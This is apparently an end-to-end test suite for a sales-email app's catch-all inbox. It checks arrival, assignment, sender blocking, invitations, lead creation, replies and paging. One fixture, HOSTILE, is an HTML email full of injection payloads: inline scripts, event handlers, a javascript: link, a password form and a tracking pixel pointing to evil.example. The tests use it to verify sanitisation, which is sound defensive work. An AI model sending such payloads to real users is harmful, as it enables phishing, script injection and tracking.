import type { Page } from 'playwright';
import { expect, test } from 'vitest';
import { faultsOfLooks } from '../support/look.ts';
import type { MailServer } from '../support/mail-server.ts';
import { until } from '../support/until.ts';
import { REPRESENTATIVE } from './screens/launch.ts';
import { conversations, feed, openConversation, openInbox } from './screens/mail.ts';
import { startMailStage } from './screens/mail-stage.ts';
import { connectCustom, mailboxRow } from './screens/mailboxes.ts';
import { signInFirstTime } from './screens/sign-in.ts';
import { type Lead, launchSmallCampaign } from './screens/small-campaign.ts';

const ARRIVES_MS = 30_000;
const BOB = { first: 'Bob', last: 'Lead', email: 'bob@harbor.example', practice: 'Harbor Imaging' };
const CAL = { first: 'Cal', last: 'Field', email: 'cal@ridge.example', practice: 'Ridge Clinic' };
const LEADS: Lead[] = [BOB, CAL];
const FILLERS = 11;
/** Scripts, handlers, forms, frames, remote content and a tracking pixel. */
const HOSTILE = `<html><head><script>parent.hit = 1</script><style>@import url(https://evil.example/s.css);</style></head>
<body onload="parent.hit = 2"><p>Do you take <b>referrals</b> from Lakeview?</p>
<img src="https://evil.example/open.gif?u=1" width="1" height="1"><img src="https://evil.example/logo.png" alt="Logo" onerror="parent.hit = 3">
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><a href="javascript:parent.hit = 4">Click</a>
<a href="https://lakeview.example/about">Our practice</a></body></html>`;

let serial = 0;

/** A stranger's message arrives in the mailbox that has sent nothing. */
async function arrivesAt(
  mail: MailServer,
  more: { from: string; subject: string; body: string; isHtml?: boolean; cc?: string; at?: Date },
) {
  serial += 1;
  const lines = [
    `From: ${more.from}`,
    `To: Eve Myra <eve@${mail.domain}>`,
    ...(more.cc ? [`Cc: ${more.cc}`] : []),
    `Subject: ${more.subject}`,
    `Date: ${new Date().toUTCString()}`,
    `Message-ID: <catch-all-${serial}-${process.pid}@elsewhere.example>`,
    'MIME-Version: 1.0',
    `Content-Type: text/${more.isHtml ? 'html' : 'plain'}; charset=utf-8`,
    '',
    more.body,
    '',
  ];
  await mail.deliver(`eve@${mail.domain}`, [lines.join('\r\n')], more.at && { at: more.at });
}

/** A sandbox mailbox that has written to two leads, and a real mailbox. */
const { server, visit, openTab } = await startMailStage('mail-catch-all', {
  users: ['eve', 'rena', 'olga'],
  skipped: 'the catch-all in the browser',
  async prepare(page, mail) {
    await connectCustom(page, mail, { name: 'Eve Myra', at: 'eve' });
    const connectedBy = Date.now();
    await mailboxRow(page, 'Eve Myra').getByText('Signed in and read.').waitFor({ timeout: ARRIVES_MS });
    // A message from before our first email is no answer to it. Clocks may differ by half a minute, so it is that much older.
    await arrivesAt(mail, {
      from: `Cal Field <${CAL.email}>`,
      subject: 'To your colleague',
      body: 'Who sends the forms?',
      at: new Date(connectedBy - 29_000),
    });
    await launchSmallCampaign(page, 'Payer calls', LEADS);
  },
});

const arrives = async (more: Parameters<typeof arrivesAt>[1]) => server && arrivesAt(server, more);
const messages = (page: Page) => page.getByRole('list', { name: 'Messages' }).getByRole('link');
const message = (page: Page, subject: string) => messages(page).filter({ hasText: subject });
const navigation = (page: Page) => page.getByRole('navigation').getByRole('link', { name: /Catchall Inbox/ });
const assignBox = (page: Page) => page.getByRole('region', { name: 'Assign to a sequence' });

/** Opens a message once it has arrived. */
async function openMessage(page: Page, subject: string): Promise<void> {
  await page.goto('/mail/catchall');
  await message(page, subject).click({ timeout: ARRIVES_MS });
}

/** Names the sequence to which the open message is assigned. */
async function assignTo(page: Page, text: string): Promise<void> {
  await assignBox(page).getByLabel('Sequence', { exact: true }).fill(text);
  await assignBox(page).getByRole('button', { name: 'Assign', exact: true }).click();
}

/** Blocks who sent the open message, which leaves the list. */
async function blockSender(page: Page, subject: string): Promise<void> {
  await page.getByRole('button', { name: 'Block sender' }).click();
  await message(page, subject).waitFor({ state: 'hidden' });
}

test.skipIf(!server)(
  'what belongs to nobody arrives in the open list, is counted, and is read once (MAIL-CATCH-1 to MAIL-CATCH-13, MAIL-CATCH-18 to MAIL-CATCH-20)',
  async () => {
    const { page, faults } = await openTab();
    const marks: string[] = [];
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('markOrphanedRead')) marks.push(request.url());
      if (request.url().includes('evil.example')) foreign.push(request.url());
    });
    await page.goto('/mail/catchall?lead_email=nobody@far.example');
    await page.getByText('No notifications found.').waitFor();
    await page.getByRole('heading', { name: 'Catch-all Inbox 0 for nobody@far.example' }).waitFor();
    const found = await faultsOfLooks(page, 'empty catch-all');
    await page.goto('/mail/catchall');
    await message(page, 'To your colleague').waitFor();
    const box = page.getByRole('searchbox', { name: 'Search senders and messages' });
    await box.fill('nowhere');
    await page.getByText('No message was found.').waitFor();
    await box.fill('forms');
    await message(page, 'To your colleague').waitFor();
    await page.goto('/mail/catchall');
    await arrives({
      from: '"Ikeda, Grace" <grace@lakeview.example>',
      subject: 'Referrals',
      body: HOSTILE,
      isHtml: true,
      cc: 'Paul <paul@lakeview.example>, office@lakeview.example',
    });
    const row = message(page, 'Referrals');
    await row.waitFor({ timeout: ARRIVES_MS });
    await row.getByText('Ikeda, Grace').waitFor();
    await row.getByText('Do you take referrals from Lakeview?').waitFor();
    await row.getByRole('img', { name: 'Unread' }).waitFor();
    await until('the count', async () => /2$/.test((await navigation(page).textContent()) ?? ''));

    await row.click();
    await page.waitForURL(/\/mail\/catchall\/\d+$/);
    await page.getByRole('heading', { name: 'Referrals' }).waitFor();
    for (const address of ['grace@', 'paul@', 'office@', 'eve@'])
      await page.getByRole('article').getByText(address).first().waitFor();
    const body = page.frameLocator('iframe');
    await body.getByText('Do you take referrals from Lakeview?').waitFor();
    expect(await body.locator('script, form, input, iframe, img[width="1"]').count()).toBe(0);
    expect(await body.getByRole('link', { name: 'Our practice' }).getAttribute('target')).toBe('_blank');
    expect(await body.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await page.evaluate('window.hit')).toBeUndefined();
    await page.getByRole('button', { name: 'Show images' }).waitFor();
    expect(foreign).toEqual([]);
    await row.getByRole('img', { name: 'Unread' }).waitFor({ state: 'hidden' });
    await until('one less', async () => /1$/.test((await navigation(page).textContent()) ?? ''));
    found.push(...(await faultsOfLooks(page, 'catch-all message')));
    await page.reload();
    await body.getByText('Do you take referrals from Lakeview?').waitFor();
    expect(marks).toHaveLength(1);
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)(
  'an admin moves a message by number or by search, and its conversation opens (MAIL-CATCH-14 to MAIL-CATCH-17)',
  async () => {
    const { page, faults } = await openTab();
    const calls: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('assignOrphaned')) calls.push(request.url());
    });
    await openInbox(page);
    await conversations(page).filter({ hasText: 'Bob Lead' }).click();
    const bobId = await openConversation(page);

    await openMessage(page, 'Referrals');
    const box = assignBox(page);
    for (const text of ['', 'Bob']) {
      await assignTo(page, text);
      await box.getByText('Enter the number of a sequence, or choose one below.').waitFor();
    }
    expect(calls).toEqual([]);
    await assignTo(page, '999999999');
    const preview = page.getByRole('dialog');
    await preview.getByRole('heading', { name: 'Sequence #999999999' }).waitFor();
    expect(await preview.getByRole('button', { name: 'Assign to this conversation' }).isEnabled()).toBe(
      false,
    );
    await preview.getByRole('button', { name: 'Cancel' }).click();
    await assignTo(page, bobId);
    await preview.getByRole('heading', { name: 'Bob Lead' }).waitFor();
    await preview.getByRole('list', { name: 'Newest messages' }).getByRole('listitem').first().waitFor();
    expect(calls).toEqual([]);
    await preview.getByRole('button', { name: 'Assign to this conversation' }).click();
    await page.getByText('Notification assigned to sequence successfully').waitFor();
    await page.waitForURL(`**/mail/sequences/${bobId}`);
    await feed(page).getByText('Referrals').first().waitFor();

    await arrives({
      from: 'Desk <desk@ridge.example>',
      subject: 'On behalf of Cal',
      body: 'He will call you.',
    });
    await openMessage(page, 'On behalf of Cal');
    await box.getByLabel('Sequence', { exact: true }).fill('Cal Field');
    const suggestion = box.getByRole('list', { name: 'Sequences found' }).getByRole('button');
    await suggestion.waitFor();
    const found = await faultsOfLooks(page, 'catch-all assign');
    await suggestion.click();
    await preview.getByRole('list', { name: 'Newest messages' }).waitFor();
    found.push(...(await faultsOfLooks(page, 'catch-all preview')));
    await preview.getByRole('button', { name: 'Assign to this conversation' }).click();
    await page.waitForURL('**/mail/sequences/*');
    await feed(page).getByText('He will call you.').first().waitFor();
    await page.getByRole('button', { name: 'Undo' }).click();
    await page.getByText('The message is in the catch-all inbox again.').waitFor();
    await feed(page).getByText('He will call you.').waitFor({ state: 'detached' });
    await openMessage(page, 'On behalf of Cal');
    await box.getByLabel('Sequence', { exact: true }).fill('Cal Field');
    await suggestion.click();
    await preview.getByRole('button', { name: 'Assign to this conversation' }).click();
    await feed(page).getByText('He will call you.').first().waitFor();
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)(
  'a conversation says which messages of its lead stand outside, and leads to them (MAIL-SEQ-17, MAIL-SEQ-18, MAIL-CATCH-2)',
  async () => {
    const { page, faults } = await openTab();
    await openInbox(page);
    await conversations(page).filter({ hasText: 'Cal Field' }).click();
    await feed(page).waitFor();
    const banner = page.getByText('There are 1 messages from this lead outside this sequence (1 unread).');
    await banner.waitFor({ timeout: ARRIVES_MS });
    const found = await faultsOfLooks(page, 'orphan banner');
    await page.getByRole('link', { name: 'Open', exact: true }).click();
    await page.waitForURL((url) => url.searchParams.get('lead_email') === CAL.email);
    await page.getByRole('heading', { name: `Catch-all Inbox 1 for ${CAL.email}` }).waitFor();
    await expect.poll(() => messages(page).count()).toBe(1);
    await message(page, 'To your colleague').waitFor();
    await page.getByRole('button', { name: 'Show all messages' }).click();
    await page.waitForURL((url) => !url.searchParams.has('lead_email'));
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)('a sender is blocked, stays out, and is unblocked', async () => {
  const { page, faults } = await openTab();
  await arrives({ from: 'Deals <deals@shop.example>', subject: 'Buy now', body: 'Half price.' });
  await openMessage(page, 'Buy now');
  await page.getByRole('button', { name: 'Block sender' }).click();
  await page.getByText('deals@shop.example is blocked.').waitFor();
  await message(page, 'Buy now').waitFor({ state: 'hidden' });
  await arrives({ from: 'Deals <deals@shop.example>', subject: 'Buy again', body: 'Half price.' });
  await arrives({ from: 'Ann <ann@shop.example>', subject: 'A question', body: 'When?' });
  await message(page, 'A question').waitFor({ timeout: ARRIVES_MS });
  expect(await message(page, 'Buy again').count()).toBe(0);
  await page.getByRole('button', { name: 'Blocked senders' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('deals@shop.example').waitFor();
  const found = await faultsOfLooks(page, 'blocked senders');
  await dialog.getByRole('button', { name: 'Unblock deals@shop.example' }).click();
  await dialog.getByText('Nobody is blocked.').waitFor();
  await page.keyboard.press('Escape');
  await message(page, 'Buy again').waitFor({ timeout: ARRIVES_MS });
  await message(page, 'Buy now').click();
  found.push(...(await faultsOfLooks(page, 'catch-all acts')));
  for (const subject of ['Buy now', 'A question']) {
    await message(page, subject).click();
    await blockSender(page, subject);
  }
  expect([...found, ...faults]).toEqual([]);
});

/** An invitation of `organizer`, as Outlook sends it. */
const invitation = (organizer: string, to: string): string =>
  [
    `From: Olga Berg <${organizer}>`,
    `To: Eve Myra <${to}>`,
    'Subject: Payer comparison',
    `Date: ${new Date().toUTCString()}`,
    `Message-ID: <invitation-${process.pid}@elsewhere.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Does this suit you?',
    '--b',
    'Content-Type: text/calendar; charset=utf-8; method=REQUEST',
    '',
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    `ORGANIZER;CN=Olga Berg:mailto:${organizer}`,
    'UID:one@elsewhere.example',
    'SUMMARY:Payer comparison\\, 15 minutes',
    'DTSTART:20271201T150000Z',
    'DTEND:20271201T151500Z',
    'LOCATION:Room 4',
    'DTSTAMP:20261123T150000Z',
    'END:VEVENT',
    'END:VCALENDAR',
    '--b--',
    '',
  ].join('\r\n');

test.skipIf(!server)(
  'an invitation says when and where, is accepted by email, and can be called back',
  async () => {
    const { page, look, found, faults } = await openTab();
    const olga = `olga@${server?.domain}`;
    const eve = `eve@${server?.domain}`;
    await server?.deliver(eve, [invitation(olga, eve)]);
    await openMessage(page, 'Payer comparison');
    const card = page.getByRole('region', { name: 'Invitation: Payer comparison, 15 minutes' });
    await card.getByText('Room 4').waitFor();
    await card.getByText(/Dec 1, 2027/).waitFor();
    await card.getByRole('link', { name: 'Add to calendar' }).waitFor();
    await look('invitation');
    await card.getByRole('button', { name: 'Decline' }).click();
    await page.getByRole('button', { name: /^Undo/ }).click();
    await page.getByText('Called back.').waitFor();
    await card.getByText('Declined', { exact: true }).waitFor({ state: 'detached' });
    await card.getByRole('button', { name: 'Accept' }).click();
    await card.getByText('Accepted', { exact: true }).waitFor();
    const row = page.getByRole('article', { name: `Invitation answered to ${olga}` });
    await row.getByText('Leaves in a moment').waitFor({ state: 'detached', timeout: 60_000 });
    await blockSender(page, 'Payer comparison');
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)('a stranger becomes a lead, and the conversation with them opens', async () => {
  const { page, look, found, faults } = await openTab();
  await arrives({
    from: '"Nilsson, Maja" <maja@fjord.example>',
    subject: 'About your forms',
    body: 'Please tell me more.',
  });
  await openMessage(page, 'About your forms');
  await page.getByRole('button', { name: 'Make a lead' }).click();
  const dialog = page.getByRole('dialog', { name: 'Make a lead of maja@fjord.example' });
  const chooseCampaign = async () => {
    await dialog.getByRole('combobox', { name: 'Strategy' }).click();
    await page.getByRole('option').first().click();
    await dialog.getByRole('combobox', { name: 'Campaign' }).click();
    await page.getByRole('option', { name: 'Payer calls' }).click();
  };
  expect(await dialog.getByLabel('First name').inputValue()).toBe('Maja');
  expect(await dialog.getByLabel('Last name').inputValue()).toBe('Nilsson');
  await dialog.getByRole('button', { name: 'Make a lead' }).click();
  await dialog.getByText('Choose a campaign.').waitFor();
  await chooseCampaign();
  await look('make a lead');
  await dialog.getByRole('button', { name: 'Make a lead' }).click();
  await page.waitForURL(/\/mail\/sequences\/\d+/);
  await page.getByRole('button', { name: 'Undo' }).click();
  await page.waitForURL(/\/mail\/catchall\/\d+/);
  await page.getByText('The message is in the catch-all inbox again.').waitFor();
  await page.getByRole('button', { name: 'Make a lead' }).click();
  await chooseCampaign();
  await dialog.getByRole('button', { name: 'Make a lead' }).click();
  await page.waitForURL(/\/mail\/sequences\/\d+/);
  await feed(page).getByText('Please tell me more.').first().waitFor();
  await page.getByRole('button', { name: 'Reply', exact: true }).first().waitFor();
  await page.goto('/leads?search=maja');
  await page.getByRole('table', { name: 'Leads' }).getByText('Maja Nilsson').click();
  await page.getByRole('link', { name: 'Write', exact: true }).click();
  await page.getByRole('region', { name: 'Reply', exact: true }).waitFor();
  await page.waitForURL((url) => url.hash === '');
  await look('write to a lead');
  // The address opens it once, not again after a reload.
  await page.reload();
  await page.getByRole('button', { name: 'Reply', exact: true }).first().waitFor();
  expect(await page.getByRole('region', { name: 'Reply', exact: true }).count()).toBe(0);
  expect([...found, ...faults]).toEqual([]);
});

test.skipIf(!server)(
  'a stranger is answered and the message forwarded, and an undo keeps what was typed',
  async () => {
    const { page, look, found, faults } = await openTab();
    const rena = `rena@${server?.domain}`;
    await arrives({
      from: `Renata Alvarez <${rena}>`,
      subject: 'Secondary coverage',
      body: 'Can you show me?',
    });
    await openMessage(page, 'Secondary coverage');
    await page.getByRole('button', { name: 'Answer', exact: true }).click();
    const form = page.getByRole('region', { name: 'Answer', exact: true });
    await form.getByRole('button', { name: 'Send answer' }).click();
    await form.getByRole('alert').waitFor();
    await form.getByRole('textbox', { name: 'Answer text' }).fill('Gladly. Tuesday at ten?');
    await look('answer in the catch-all');
    // On another device, which has nothing of it, the server's copy opens.
    await form.getByText(/^Saved /).waitFor();
    await page.evaluate(() => {
      for (const key of Object.keys(localStorage))
        if (key.startsWith('myra.draft.')) localStorage.removeItem(key);
    });
    await page.reload();
    await expect
      .poll(() => form.getByRole('textbox', { name: 'Answer text' }).inputValue())
      .toBe('Gladly. Tuesday at ten?');
    await form.getByRole('button', { name: 'Send answer' }).click();
    await page.getByRole('button', { name: /^Undo/ }).click();
    await page.getByText('Called back.').waitFor();
    await page.getByRole('button', { name: 'Answer', exact: true }).click();
    await form.getByRole('button', { name: 'Send answer' }).click();
    const row = page.getByRole('article', { name: `Answer to ${rena}` });
    await row.getByText('Leaves in a moment').waitFor();
    await row.getByText('Leaves in a moment').waitFor({ state: 'detached', timeout: 60_000 });
    await page.getByRole('button', { name: 'Forward', exact: true }).click();
    const forward = page.getByRole('region', { name: 'Forward', exact: true });
    await forward.getByRole('textbox', { name: 'To' }).fill(rena);
    await page.keyboard.press('Enter');
    await forward.getByRole('button', { name: 'Forward' }).click();
    await page.getByRole('article', { name: `Forwarded to ${rena}` }).waitFor();
    await look('answered in the catch-all');
    await blockSender(page, 'Secondary coverage');
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)('nobody is offered an answer to somebody who may not be written to', async () => {
  const { page, look, found, faults } = await openTab();
  await arrives({ from: 'Lena Out <lena@quiet.example>', subject: 'Our policy', body: 'Please note it.' });
  await openMessage(page, 'Our policy');
  await page.getByRole('button', { name: 'Answer', exact: true }).waitFor();
  await page.goto('/organization?section=suppressions');
  await page.getByRole('button', { name: 'Add', exact: true }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Addresses or domains').fill('lena@quiet.example');
  await dialog.getByRole('button', { name: 'Add', exact: true }).click();
  await page.getByRole('row', { name: 'lena@quiet.example' }).waitFor();
  await openMessage(page, 'Our policy');
  await page.getByText('Lena Out may not be written to any more, so nothing can be sent here.').waitFor();
  await look('refused in the catch-all');
  for (const name of ['Answer', 'Make a lead'])
    expect(await page.getByRole('button', { name, exact: true }).count()).toBe(0);
  await page.getByRole('button', { name: 'Forward', exact: true }).waitFor();
  await blockSender(page, 'Our policy');
  expect([...found, ...faults]).toEqual([]);
});

test.skipIf(!server)(
  'the list is read page by page, as the address says (MAIL-CATCH-7, MAIL-CATCH-8)',
  async () => {
    const { page, faults } = await openTab();
    await page.goto('/mail/catchall');
    for (let nth = 1; nth <= FILLERS; nth += 1)
      await arrives({
        from: `Person ${nth} <person${nth}@far.example>`,
        subject: `Question ${nth}.`,
        body: 'Hello.',
      });
    await page.getByText('1 of 2').waitFor({ timeout: ARRIVES_MS });
    await until('a full page', async () => (await messages(page).count()) === 10);
    await page.getByRole('button', { name: 'Next page' }).click();
    await page.waitForURL((url) => url.searchParams.get('page') === '2');
    await page.getByText('2 of 2').waitFor();
    await message(page, 'To your colleague').waitFor();
    await page.goBack();
    await page.goto('/mail/catchall?page=9999');
    await page.waitForURL((url) => url.searchParams.get('page') === '2');
    await message(page, 'To your colleague').waitFor();
    await page.goto('/mail/catchall');
    await page.getByText('1 of 2').waitFor();
    await page.getByRole('combobox', { name: 'Rows per page' }).click();
    await page.getByRole('option', { name: '25' }).click();
    await page.waitForURL((url) => url.searchParams.get('limit') === '25' && !url.searchParams.has('page'));
    await page.getByText('1 of 1').waitFor();
    await until('all of them', async () => (await messages(page).count()) === FILLERS + 1);
    const found = await faultsOfLooks(page, 'catch-all list');
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)(
  'a real conversation stands beside the sample (SHELL-20, CONV-1, CONV-2, CONV-3, CONV-4, CONV-5, CONV-6, CONV-7, CONV-8)',
  async () => {
    const { page, faults } = await openTab();
    await page.goto('/conversation-history');
    await page.getByText('Sample data: invented people and texts.').waitFor();
    const sample = (name: string) => page.getByRole('list', { name }).getByRole('listitem').nth(1).waitFor();
    await sample('Sample emails');
    await page.getByRole('tab', { name: 'SMS' }).click();
    await sample('Sample text messages');
    await page.getByRole('tab', { name: 'Call' }).click();
    for (const banner of ['Lead transferred to sales team for closing.', 'Call in progress.', 'Call failed.'])
      await page.getByText(banner).waitFor();
    const found = await faultsOfLooks(page, 'conversation history');
    await openInbox(page);
    await conversations(page).filter({ hasText: 'Bob Lead' }).click();
    const sequenceId = await openConversation(page);
    await page.goto(`/conversation-history?sequence_id=${sequenceId}`);
    const real = page.getByRole('list', { name: 'Messages' }).getByRole('listitem');
    await real.nth(1).waitFor();
    await real.filter({ hasText: 'Referrals' }).waitFor();
    found.push(...(await faultsOfLooks(page, 'real conversation')));
    await page.getByRole('link', { name: 'Open in the inbox' }).click();
    await page.waitForURL(`**/mail/sequences/${sequenceId}`);
    expect([...found, ...faults]).toEqual([]);
  },
);

test.skipIf(!server)(
  'a representative reads the catch-all and is told who assigns (MAIL-CATCH-15)',
  async () => {
    const { page, product, faults } = await visit();
    await signInFirstTime(page, { ...product, ...REPRESENTATIVE }, 'a-word-of-her-own-7');
    await page.goto('/mail/catchall');
    await messages(page).first().click();
    await assignBox(page)
      .getByText('Only organisation admin can assign notifications to sequences.')
      .waitFor();
    expect(await assignBox(page).getByRole('textbox').count()).toBe(0);
    expect(faults).toEqual([]);
  },
);
